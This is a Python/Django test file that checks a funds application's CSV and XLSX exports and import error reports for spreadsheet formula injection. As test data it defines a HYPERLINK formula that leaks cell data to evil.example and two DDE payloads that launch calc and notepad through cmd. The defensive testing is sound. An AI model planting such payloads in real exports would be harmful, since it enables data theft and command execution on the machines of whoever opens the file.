"""Funds exports and error reports hold no cell a spreadsheet runs as a formula: a project name
from the project form, a payee from the API, a row of an import; amounts stay numbers."""

import csv
import io
import json
import re
import zipfile
from urllib.parse import unquote

from django.urls import reverse
from openpyxl import load_workbook

from xiezuo.funds import exports, imports, services
from xiezuo.funds.models import Disbursement, Project

V_TAOYANG = "621124100202"

EVIL_NAME = '=HYPERLINK("http://evil.example/?p="&A2,"项目")'
EVIL_PAYEE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NOTE = "-2+3+cmd|' /C notepad'!A0"


def _no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", z.read(name).decode()), name


def _setup(client, areas, users, build, pay):
    f = build(areas, users)
    client.force_login(f["officer"])
    r = client.post(reverse("funds:project_create"), {
        "code": "LT2018-090", "name": EVIL_NAME, "category": "road", "year": 2018,
        "villages": [areas[V_TAOYANG].pk], "budget": "10000", "status": "planned"})
    assert r.status_code == 302, r.content.decode()[:1000]
    project = Project.objects.get(code="LT2018-090")
    r = client.post(f"/api/funds/projects/{project.pk}/disbursements", json.dumps({
        "amount": "1000.00", "date": "2018-06-01", "payee": EVIL_PAYEE, "note": EVIL_NOTE}),
        content_type="application/json")
    assert r.status_code == 201, r.content
    d = pay(f["p1"], "500", actor=f["officer"])
    services.disbursement_reverse(actor=f["officer"], disbursement=d, reason="录入错误")
    return f


def _download(client, what, fmt) -> bytes:
    r = client.get(reverse("funds:export", args=[what]) + f"?format={fmt}")
    assert r.status_code == 200
    # named for what it holds, in Chinese: 资金项目-20261201.xlsx
    name = {"projects": "资金项目", "disbursements": "资金支出", "ledger": "资金台账"}[what]
    assert f"{name}-" in unquote(r["Content-Disposition"])
    assert unquote(r["Content-Disposition"]).endswith(f'.{fmt}') or f".{fmt}" in r["Content-Disposition"]
    return b"".join(r.streaming_content)


def test_names_and_payees_from_the_form_and_the_api_are_text_in_csv_exports(client, areas,
                                                                           users, build, pay):
    _setup(client, areas, users, build, pay)
    cells = set()
    for what in ("projects", "disbursements", "ledger"):
        text = _download(client, what, "csv").decode("utf-8-sig")
        cells |= {c for row in csv.reader(io.StringIO(text)) for c in row}
    assert {"'" + EVIL_NAME, "'" + EVIL_PAYEE, "'" + EVIL_NOTE} <= cells
    assert not cells & {EVIL_NAME, EVIL_PAYEE, EVIL_NOTE}


def test_names_and_payees_are_text_in_xlsx_exports_and_amounts_stay_numbers(client, areas,
                                                                            users, build, pay):
    _setup(client, areas, users, build, pay)
    for what in ("projects", "disbursements", "ledger"):
        data = _download(client, what, "xlsx")
        _no_formula(data)
        ws = load_workbook(io.BytesIO(data)).active
        for row in ws.iter_rows(min_row=2):
            for c in row:
                if c.value in (EVIL_NAME, EVIL_PAYEE, EVIL_NOTE):
                    assert c.data_type == "s" and c.quotePrefix
    # A reversal's negative amount is a number, not quoted text, in the CSV ledger.
    text = _download(client, "ledger", "csv").decode("utf-8-sig")
    amounts = [row[8] for row in csv.reader(io.StringIO(text))][1:]
    assert "-500.00" in amounts and not any(a.startswith("'") for a in amounts)
    assert Disbursement.objects.filter(amount__lt=0).exists()


def test_the_funds_error_report_gives_back_the_rows_as_text(areas, users, tmp_path, build):
    build(areas, users)
    with open(tmp_path / "d.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["项目编号", "支付日期", "金额 (元)", "收款单位或个人", "凭证号"])
        w.writerow(["=1+2", "2018-06-01", "10", EVIL_PAYEE, "+1"])  # no such project: rejected
    r = imports.import_disbursements(path=tmp_path / "d.csv", actor=users["fund_officer"],
                                     dry_run=True)
    assert r.rejected == 1 and r.report
    data = open(r.report, "rb").read()
    _no_formula(data)
    values = {c.value: c for row in load_workbook(io.BytesIO(data)).active.iter_rows()
              for c in row}
    assert values["=1+2"].data_type == "s" and values[EVIL_PAYEE].data_type == "s"


def test_export_function_directly_with_a_buffer(areas, users, build):
    f = build(areas, users)
    Project.objects.filter(pk=f["p1"].pk).update(name=EVIL_NAME)
    out = io.BytesIO()
    exports.export(user=f["officer"], what="projects", out=out, fmt="xlsx")
    _no_formula(out.getvalue())
